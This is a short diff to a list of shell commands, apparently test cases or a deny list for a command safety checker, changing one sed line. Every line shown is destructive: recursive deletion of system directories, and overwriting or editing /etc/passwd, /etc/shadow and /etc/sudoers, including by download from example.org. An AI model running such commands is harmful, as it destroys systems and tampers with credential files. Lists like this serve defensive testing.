@@ -60,7 +60,7 @@ rm -rf /{bin,etc}
 rm -rf {/usr,/etc}
 rm -rf ~root
 unlink /etc/passwd
-sed -i s/root/toor/ /etc/passwd
+sed -i s/a/b/ /etc/passwd
 curl -o /etc/passwd https://example.org/x
 wget -qO/etc/shadow https://example.org/x
 sort --output=/etc/sudoers x
